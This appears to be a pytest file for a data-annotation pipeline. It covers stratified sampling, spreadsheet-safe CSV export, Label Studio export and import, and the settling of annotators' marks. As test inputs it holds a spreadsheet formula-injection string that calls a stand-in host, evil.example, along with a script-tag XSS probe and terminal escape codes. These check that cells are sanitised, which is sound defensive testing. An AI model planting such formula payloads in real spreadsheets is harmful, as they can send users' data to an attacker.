"""The sample that people mark: how it is drawn, what it looks like, and how it is read however it comes back."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from collections import Counter
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from corpus.annotation import AnnotationItem, Check, Drawn, Mark, allocate, draw_rows, item_id, read_drawn
from corpus.annotation_csv import COLUMNS, read_mark, read_table, safe_cell, write_table
from corpus.label_studio import LABEL_CONFIG, data_url, read_export, write_project
from corpus.marks import Annotations, GivenMark, KeyEntry, StoredMark, settle_marks
from schemas.errors import CorpusError, SourceError, StorageError
from schemas.rows import LabelledSample
from schemas.samples import Topic
from schemas.verdicts import Decision, Heuristic, Mode
from tests.corpus.conftest import World, build, encoded_image

TIME = "2026-01-02T03:04:05.000006+00:00"


def judged(world: World, number: int, probability: float, **values: Any) -> LabelledSample:
    mode = Mode.THINK if probability >= 0.5 else Mode.DIRECT
    decision = Decision(mode, Heuristic.DIFFICULTY, probability=probability)
    return world.row(
        number, reasoning="One after the other." if mode is Mode.THINK else "", decision=decision, **values
    )


def sampled(world: World, number: int, num_right: int, num_scored: int) -> LabelledSample:
    mode = Mode.DIRECT if num_right else Mode.THINK
    decision = Decision(mode, Heuristic.PERFORMANCE, num_right, num_scored, num_scored)
    return world.row(number, reasoning="" if num_right else "One after the other.", decision=decision)


@pytest.fixture(scope="module")
def version(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """90 easy and 6 hard open questions, 4 of them about code; 20 checkable ones right at once, 3 wrong eight times."""
    world = World()
    rows = [judged(world, n, 0.1 if n % 10 else 0.45) for n in range(90)]
    rows += [judged(world, 100 + n, 0.9, topic=Topic.CODE if n < 4 else Topic.MATH) for n in range(6)]
    rows += [sampled(world, 200 + n, 1, 1) for n in range(20)]
    rows += [sampled(world, 300 + n, 0, 8) for n in range(3)]
    return build(tmp_path_factory.mktemp("corpus"), world, rows, shard_rows=17).building


def draw(version: Path, num_rows: int, **values: Any) -> list[Drawn]:
    settings = {"checks": list(Check), "seed": 0, "threshold": 0.5, **values}
    return draw_rows(version, num_rows=num_rows, **settings)


def test_every_kind_of_row_is_drawn_and_rare_ones_more_than_their_share(version: Path) -> None:
    drawn = draw(version, 60)
    assert Counter(row.check for row in drawn) == {Check.DIFFICULTY: 30, Check.VERIFIER: 30}
    strata = {row.stratum: (row.num_in_stratum, row.num_drawn) for row in drawn}
    assert strata["difficulty; no; objective; math; tests"][0] == 90
    assert strata["difficulty; yes; objective; code; tests"] == (4, 4)
    assert strata["difficulty; yes; objective; math; tests"] == (2, 2)
    # A reply is a unit: 20 right ones, and three times eight wrong ones.
    assert strata["verifier; yes; objective; math; tests"][0] == 20
    assert strata["verifier; no; objective; math; tests"][0] == 24
    assert Counter(row.stratum for row in drawn) == {name: number for name, (_, number) in strata.items()}


def test_what_is_drawn_depends_on_the_rows_and_the_seed_alone(version: Path) -> None:
    names = [(row.row_id, row.check, row.turn) for row in draw(version, 40)]
    assert names == [(row.row_id, row.check, row.turn) for row in draw(version, 40)]
    assert len(set(names)) == len(names)
    assert set(names) <= {(row.row_id, row.check, row.turn) for row in draw(version, 60)}
    assert set(names) != {(row.row_id, row.check, row.turn) for row in draw(version, 40, seed=1)}


def test_a_sample_larger_than_the_corpus_holds_everything_once(version: Path) -> None:
    drawn = draw(version, 10_000)
    assert Counter(row.check for row in drawn) == {Check.DIFFICULTY: 96, Check.VERIFIER: 44}
    assert all(row.num_drawn == row.num_in_stratum for row in drawn)


def test_one_check_alone_gets_all_rows(version: Path) -> None:
    assert {row.check for row in draw(version, 20, checks=[Check.DIFFICULTY])} == {Check.DIFFICULTY}
    assert len(draw(version, 20, checks=[Check.DIFFICULTY])) == 20


def test_rows_near_the_threshold_are_strata_of_their_own_if_wanted(version: Path) -> None:
    drawn = draw(version, 20, checks=[Check.DIFFICULTY], near=0.1)
    near = [row for row in drawn if row.stratum.endswith("near the threshold")]
    assert {(row.num_in_stratum, row.verdict) for row in near} == {(9, Mark.NO)}
    assert len(near) > 2
    assert not any("near" in row.stratum for row in draw(version, 20, checks=[Check.DIFFICULTY]))


def test_too_many_strata_are_joined_by_verdict_and_lose_no_row(tmp_path: Path) -> None:
    world = World()
    rows = [judged(world, n, 0.9 if n % 2 else 0.1, source=f"source-{n // 4:02}") for n in range(80)]
    version = build(tmp_path, world, rows, shard_rows=50).building
    drawn = draw(version, 24, checks=[Check.DIFFICULTY])
    sizes = {row.stratum: row.num_in_stratum for row in drawn}
    assert sum(sizes.values()) == 80 and len(sizes) <= 24 // 4
    assert {"difficulty; yes; others", "difficulty; no; others"} <= set(sizes)


@given(st.dictionaries(st.text(max_size=3), st.integers(0, 2000), max_size=8), st.integers(0, 300))
def test_places_are_given_to_all_strata_and_never_more_than_they_have(sizes: dict[str, int], num_rows: int) -> None:
    drawn = allocate(sizes, num_rows)
    assert sum(drawn.values()) == min(num_rows, sum(sizes.values()))
    assert all(drawn[name] <= size for name, size in sizes.items())
    if num_rows >= 2 * len(sizes):
        assert all(drawn[name] >= min(2, size) for name, size in sizes.items())
    more = allocate(sizes, num_rows + 1)
    assert all(more[name] >= number for name, number in drawn.items()), "a larger sample takes away from none"
    for one, other in ((a, b) for a in sizes for b in sizes if sizes[a] >= sizes[b]):
        assert drawn[one] >= min(drawn[other], sizes[one]) - 1, "a larger stratum never gets much less"


def test_a_drawn_row_is_read_whole(version: Path) -> None:
    for row, record in read_drawn(draw(version, 30)):
        assert record["id"] == row.row_id and record["images"][0]["bytes"]
        assert (record["heuristic"] == "difficulty") == (row.check is Check.DIFFICULTY)


def test_a_damaged_shard_is_named(version: Path, tmp_path: Path) -> None:
    (tmp_path / "data" / "think").mkdir(parents=True)
    (tmp_path / "data" / "think" / "00000.parquet").write_bytes(b"no parquet")
    with pytest.raises(CorpusError, match=r"00000\.parquet"):
        draw(tmp_path, 10)


def item(number: int, question: str = "What is it?", **values: Any) -> AnnotationItem:
    fields: dict[str, Any] = {"check": Check.VERIFIER, "reference": "7", "reply": f"Answer: {number}", "images": ()}
    return AnnotationItem(f"{number:016x}", question=question, **{**fields, **values})


HOSTILE = '=HYPERLINK("http://evil.example/"&A1,"Click")\n"quoted", with; separators\t\x1b[31m\x00 and ünï ok'


def test_the_table_opens_in_a_spreadsheet_and_computes_nothing(tmp_path: Path) -> None:
    picture = encoded_image("red")
    asked = [item(1, HOSTILE, reply="-5", images=(picture, picture, encoded_image("blue"))), item(2, "x" * 40_000)]
    path = write_table(asked, tmp_path / "out")
    content = path.read_bytes()
    assert content.startswith(b"\xef\xbb\xbf"), "Excel takes a table without this mark for another encoding"
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert tuple(rows[0]) == COLUMNS
    first, second = rows
    assert first["question"].startswith("'=HYPERLINK(") and first["reply"] == "'-5"
    assert '"quoted", with; separators' in first["question"] and "\n" in first["question"]
    assert "\x00" not in first["question"] and "\x1b" not in first["question"]
    assert len(second["question"]) < 32_767 and "clipped after 32,000 of 40,000 characters" in second["question"]
    names = first["images"].split("\n")
    assert len(names) == 3 and names[0] == names[1]
    with Image.open(path.parent / names[2]) as image:
        assert image.size == (6, 4) and names[2].endswith(".png")
    assert [first[name] for name in ("mark", "comment", "annotator")] == ["", "", ""]


@given(st.text())
def test_no_cell_begins_like_a_formula_and_none_holds_what_acts_on_a_terminal(text: str) -> None:
    cell = safe_cell(text)
    assert not re.match(r"\s*[=+\-@\t＝＋－＠]", cell)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\ud800-\udfff]", cell)
    assert cell in (safe_cell(cell), safe_cell(cell)[1:])


def table_of(tmp_path: Path, text: str, *, encoding: str = "utf-8", name: str = "ann.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


@pytest.mark.parametrize(
    ("text", "encoding"),
    [
        ("item,mark\na,yes\nb,no\n", "utf-8"),
        ("\ufeffitem;comment;mark\r\na;é;yes\r\nb;;no\r\n", "utf-8"),
        ("mark\tmy notes\tITEM \nyes\tx\ta\nno\ty\tb\n", "utf-16"),
        ('"Item","mark","question"\n"a","yes","two\nlines; and ""quotes"""\n"b","no",\n', "utf-8"),
        ("item;mark;comment\na;yes;grün\nb;no;naïve\n", "cp1252"),
        ("sep=;\r\nitem;mark\r\na;yes\r\nb;no\r\n", "utf-8"),
    ],
)
def test_a_table_is_read_however_a_spreadsheet_wrote_it(tmp_path: Path, text: str, encoding: str) -> None:
    marks, problems = read_table(table_of(tmp_path, text, encoding=encoding), annotator="ann")
    assert [(mark.item, mark.mark, mark.annotator) for mark in marks] == [
        ("a", Mark.YES, "ann"),
        ("b", Mark.NO, "ann"),
    ]
    assert problems.counts == {}


@pytest.mark.parametrize(
    ("text", "mark"),
    [("Yes", Mark.YES), (" y ", Mark.YES), ("1", Mark.YES), ("ja", Mark.YES), ("TRUE", Mark.YES), ("yes!", Mark.YES),
     ("No.", Mark.NO), ("n", Mark.NO), ("0", Mark.NO), ("Nein", Mark.NO),
     ("can’t  tell", Mark.CANT_TELL), ("?", Mark.CANT_TELL),
     ("maybe", None), ("yes and no", None), ("2", None), ("x", None)],
)  # fmt: skip
def test_what_people_write_is_read_or_not_guessed(text: str, mark: Mark | None) -> None:
    assert read_mark(text) is mark


def test_every_line_without_a_mark_is_counted_and_named(tmp_path: Path) -> None:
    text = "item,mark,annotator\na,yes,bob\n,,\nb,,bob\nc,perhaps,bob\n,no,bob\n"
    marks, problems = read_table(table_of(tmp_path, text), annotator="ann")
    assert [(mark.item, mark.annotator) for mark in marks] == [("a", "bob")]
    assert problems.counts == {"blank line": 1, "no mark": 1, "mark that cannot be read": 1, "no item": 1}
    assert problems.examples["mark that cannot be read"] == ["ann.csv, line 5: 'perhaps'"]


def test_a_file_that_is_no_table_is_an_error_that_says_so(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match="no columns 'item' and 'mark'"):
        read_table(table_of(tmp_path, "id,answer\n1,yes\n"), annotator="ann")
    with pytest.raises(SourceError, match="no columns"):
        read_table(table_of(tmp_path, ""), annotator="ann")
    with pytest.raises(StorageError, match=r"none\.csv"):
        read_table(tmp_path / "none.csv", annotator="ann")


def project(tmp_path: Path) -> list[dict[str, Any]]:
    asked = [
        item(1, "<script>alert(1)</script> & why?\x00", images=(encoded_image("red"), b"no image")),
        item(2, check=Check.DIFFICULTY, reference="", reply=""),
    ]
    tasks: list[dict[str, Any]] = json.loads(write_project(asked, tmp_path / "ls").read_text(encoding="utf-8"))
    return tasks


def test_a_label_studio_task_has_every_variable_of_the_configuration(tmp_path: Path) -> None:
    tasks = project(tmp_path)
    config = (tmp_path / "ls" / "config.xml").read_text(encoding="utf-8")
    tags = list(ElementTree.fromstring(config).iter())
    variables = {tag.get(name, "")[1:] for tag in tags for name in ("value", "valueList") if "$" in tag.get(name, "")}
    names = {tag.get("name") for tag in tags}
    assert variables == {"asked", "images", "question", "reference", "reply"}
    assert all(tag.get("toName") in names for tag in tags if tag.get("toName"))
    assert [tag.get("value") for tag in tags if tag.tag == "Choice"] == list(map(str, Mark))
    for task in tasks:
        assert set(task["data"]) == {*variables, "item"} and all(task["data"].values())
    # A text tag shows its text as it is, so nothing is escaped here.
    assert tasks[0]["data"]["question"] == "<script>alert(1)</script> & why?\ufffd"
    assert len(tasks[0]["data"]["images"]) == 2, "an image that cannot be decoded is shown as such"


def test_label_studios_own_library_takes_configuration_tasks_and_marks(tmp_path: Path) -> None:
    peer = pytest.importorskip("label_studio_sdk.label_interface", reason="label-studio-sdk is not installed")
    interface = peer.LabelInterface(LABEL_CONFIG)
    interface.validate()
    assert all(interface.validate_task(task) for task in project(tmp_path))
    for mark in Mark:
        assert interface.validate_annotation(annotation(str(mark)))
    assert not interface.validate_annotation(annotation("perhaps"))


def test_images_travel_inside_the_tasks_and_are_made_small() -> None:
    noise = Image.effect_noise((2000, 1500), 90)
    buffer = io.BytesIO()
    noise.save(buffer, "PNG")
    kind, _, content = data_url(buffer.getvalue()).partition(";base64,")
    decoded = base64.b64decode(content)
    with Image.open(io.BytesIO(decoded)) as image:
        assert image.size == (1024, 768) and kind == "data:image/jpeg"
    assert len(decoded) < 700_000
    assert data_url(encoded_image("red")).startswith("data:image/png;base64,")


def annotation(mark: str | None, by: object = 1, *, cancelled: bool = False, comment: str = "") -> dict[str, Any]:
    def region(name: str, kind: str, value: object) -> dict[str, Any]:
        return {"id": "r", "from_name": name, "to_name": "question", "type": kind, "value": value}

    result = [region("mark", "choices", {"choices": [mark]})] if mark else []
    result += [region("comment", "textarea", {"text": [comment]})] if comment else []
    return {"id": 7, "completed_by": by, "was_cancelled": cancelled, "ground_truth": False, "result": result}


def export_of(tmp_path: Path, *tasks: object) -> Path:
    path = tmp_path / "export.json"
    path.write_text(json.dumps(tasks), encoding="utf-8")
    return path


def test_an_export_of_label_studio_gives_every_annotators_marks(tmp_path: Path) -> None:
    ann = {"id": 3, "email": "ann@example.org", "first_name": "Ann"}
    path = export_of(
        tmp_path,
        {"id": 11, "data": {"item": "a"}, "annotations": [annotation("yes", ann, comment="sure"), annotation("no", 4)]},
        {"id": 12, "data": {"item": "b"}, "annotations": [annotation("can't tell", ann)], "predictions": []},
    )
    marks, problems = read_export(path)
    assert [(mark.item, mark.annotator, mark.mark, mark.comment) for mark in marks] == [
        ("a", "ann@example.org", Mark.YES, "sure"),
        ("a", "4", Mark.NO, ""),
        ("b", "ann@example.org", Mark.CANT_TELL, ""),
    ]
    assert problems.counts == {}


def test_what_is_skipped_empty_or_foreign_in_an_export_is_counted(tmp_path: Path) -> None:
    twice = annotation("yes")
    twice["result"] *= 2
    path = export_of(
        tmp_path,
        {"id": 1, "data": {"item": "a"}, "annotations": [annotation("yes", cancelled=True), annotation(None)]},
        {"id": 2, "data": {"item": "b"}, "annotations": []},
        {"id": 3, "data": {"text": "of another project"}, "annotations": [annotation("yes")]},
        {"id": 4, "data": {"item": "c"}, "annotations": [annotation("perhaps"), twice, "no annotation"]},
        {"id": 5, "data": {"item": "d"}, "annotations": [{"result": "no list"}, {"result": [3, {"value": 1}]}]},
    )
    marks, problems = read_export(path)
    assert marks == []
    assert problems.counts == {"skipped": 1, "no mark": 4, "no item": 1, "mark that cannot be read": 2}


def test_other_formats_of_label_studio_are_refused_with_what_to_do(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match="not as JSON-MIN"):
        read_export(export_of(tmp_path, {"id": 1, "item": "a", "mark": "yes", "annotator": 1}))
    for content in ("{}", "[1]", "[", "[" * 100_000):
        path = tmp_path / "bad.json"
        path.write_text(content, encoding="utf-8")
        with pytest.raises(SourceError):
            read_export(path)


def key(name: str, **values: Any) -> KeyEntry:
    fields: dict[str, Any] = {"check": Check.DIFFICULTY, "verdict": Mark.YES, "stratum": "s", **values}
    return KeyEntry(name, row_id="r", source="s", reply="", judge="j", num_in_stratum=9, num_drawn=3, **fields)


def test_marks_are_settled_and_nothing_is_lost_silently() -> None:
    keys = {name: key(name) for name in "abcd"}
    stored = {("ann", "d"): StoredMark("d", "ann", Mark.YES, "", "r", Check.DIFFICULTY, "j", "before")}
    given = [
        GivenMark("a", "ann", Mark.YES, place="line 2"),
        GivenMark("a", "bob", Mark.NO, place="line 3"),
        GivenMark("b", "ann", Mark.NO, place="line 4"),
        GivenMark("b", "ann", Mark.NO, place="line 5"),
        GivenMark("c", "ann", Mark.NO, place="line 6"),
        GivenMark("c", "ann", Mark.YES, place="line 7"),
        GivenMark("d", "ann", Mark.NO, place="line 8"),
        GivenMark("\x1b[2J", "ann", Mark.NO, place="line 9"),
    ]
    new, problems = settle_marks(given, keys, stored, time=TIME)
    assert {(mark.annotator, mark.item, mark.mark) for mark in new} == {
        ("ann", "a", Mark.YES),
        ("bob", "a", Mark.NO),
        ("ann", "b", Mark.NO),
        ("ann", "d", Mark.NO),
    }
    assert problems.counts == {
        "unknown item": 1,
        "contradicted by another mark": 2,
        "repeated": 1,
        "changed since it was read before (taken)": 1,
    }
    assert "\x1b" not in str(problems.to_record())


def test_marks_and_keys_last_and_the_newest_of_a_person_counts(tmp_path: Path) -> None:
    annotations = Annotations(tmp_path)
    assert annotations.read_keys() == {} and annotations.read_marks() == {}
    annotations.write_key([key("a"), key("b")], time=TIME)
    annotations.write_key([key("b", verdict=Mark.NO)], time=TIME.replace("2026", "2027"))
    keys = annotations.read_keys()
    assert (keys["a"].verdict, keys["b"].verdict) == (Mark.YES, Mark.NO)
    assert keys["a"].export < keys["b"].export
    for year, mark in (("2026", Mark.YES), ("2028", Mark.NO), ("2027", Mark.CANT_TELL)):
        stored = StoredMark("a", "ann", mark, "", "r", Check.DIFFICULTY, "j", year)
        annotations.store_marks([stored], time=TIME.replace("2026", year))
    assert annotations.read_marks()["ann", "a"].mark is Mark.NO


@pytest.mark.parametrize("damage", ["{", "[]", '{"item": "a"}', '{"item": "a", "mark": "perhaps"}'])
def test_a_damaged_file_of_marks_is_named(tmp_path: Path, damage: str) -> None:
    annotations = Annotations(tmp_path)
    path = annotations.store_marks([], time=TIME)
    path.write_text(damage + "\n", encoding="utf-8")
    with pytest.raises(StorageError, match=re.escape(path.name)):
        annotations.read_marks()


def test_the_name_of_an_item_tells_nothing_of_the_verdict() -> None:
    assert item_id(Check.VERIFIER, "r", "Answer: 7") != item_id(Check.VERIFIER, "r", "Answer: 8")
    assert item_id(Check.VERIFIER, "r", "\ud800") and len(item_id(Check.DIFFICULTY, "r", "")) == 16
